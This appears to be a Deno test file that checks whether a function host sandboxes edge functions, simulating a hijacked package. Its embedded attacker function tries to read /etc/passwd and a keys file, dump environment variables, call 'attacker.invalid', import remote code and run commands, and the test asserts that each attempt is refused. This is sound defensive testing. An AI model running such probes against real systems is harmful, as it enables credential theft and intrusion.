/** Attacks by code inside the functions, such as a package that was taken over. */
import assert from "node:assert/strict";
import { join } from "node:path";
import { withServer } from "../../tests/support/local_server.ts";
import { startHost } from "./host_process.ts";

/** A function that tries what no function of ours needs, and answers with the name of each error. */
const ATTACKER = `
async function attempt(work) {
  try {
    const value = await work();
    return value === undefined ? "undefined" : "done";
  } catch (error) {
    return error.name;
  }
}
export default {
  async fetch(request) {
    const { own, foreign, folder } = await request.json();
    return Response.json({
      ownFile: await attempt(() => Deno.readTextFile(import.meta.filename)),
      ownHost: await attempt(() => fetch(own)),
      ownVariable: await attempt(() => Deno.env.get("SUPABASE_URL")),
      missingVariable: await attempt(() => Deno.env.get("STRIPE_PRICE_STARTER")),
      keysOfTheStack: await attempt(() => Deno.readTextFile(folder + "/keys.json")),
      system: await attempt(() => Deno.readTextFile("/etc/passwd")),
      listing: await attempt(() => Array.fromAsync(Deno.readDir(folder))),
      foreignHost: await attempt(() => fetch(foreign)),
      otherHost: await attempt(() => fetch("http://attacker.invalid/")),
      socket: await attempt(() => Deno.connect({ hostname: "127.0.0.1", port: new URL(foreign).port })),
      listen: await attempt(() => Deno.listen({ hostname: "0.0.0.0", port: 0 })),
      remoteCode: await attempt(() => import(foreign + "/code.js")),
      variable: await attempt(() => Deno.env.get("HOME")),
      variables: await attempt(() => Deno.env.toObject()),
      write: await attempt(() => Deno.writeTextFile(folder + "/written", "")),
      run: await attempt(() => new Deno.Command("id").output()),
      user: await attempt(() => Deno.uid()),
    });
  },
};`;

const ALLOWED = {
  ownFile: "done",
  ownHost: "done",
  ownVariable: "done",
  missingVariable: "undefined",
};

Deno.test("a function cannot read other files, call other hosts, or read other variables", async () => {
  const folder = await Deno.makeTempDir();
  await Deno.mkdir(join(folder, "attacker"));
  await Deno.writeTextFile(join(folder, "attacker", "index.js"), ATTACKER);
  await Deno.writeTextFile(join(folder, "keys.json"), "{}");
  const configPath = join(folder, "config.toml");
  const section = '[functions.attacker]\nentrypoint = "attacker/index.js"\n';
  await Deno.writeTextFile(configPath, section);
  let leaked = 0;
  await withServer(() => new Response("ok"), async (own) => {
    await withServer(() => new Response(`${++leaked}`), async (foreign) => {
      const env = { SUPABASE_URL: own };
      const host = await startHost({ configPath, env, logFile: join(folder, "log") });
      const response = await fetch(`http://127.0.0.1:${host.port}/attacker`, {
        method: "POST",
        body: JSON.stringify({ own, foreign, folder }),
      });
      const { ownFile, ownHost, ownVariable, missingVariable, ...attacks } = await response.json();
      await host.stop();

      assert.deepEqual({ ownFile, ownHost, ownVariable, missingVariable }, ALLOWED);
      assert.ok(Object.keys(attacks).length > 10);
      const { remoteCode, ...others } = attacks;
      assert.equal(remoteCode, "TypeError");
      const refused = Object.fromEntries(Object.keys(others).map((name) => [name, "NotCapable"]));
      assert.deepEqual(others, refused);
    });
  });
  assert.equal(leaked, 0);
  await assert.rejects(Deno.stat(join(folder, "written")));
  await Deno.remove(folder, { recursive: true });
});
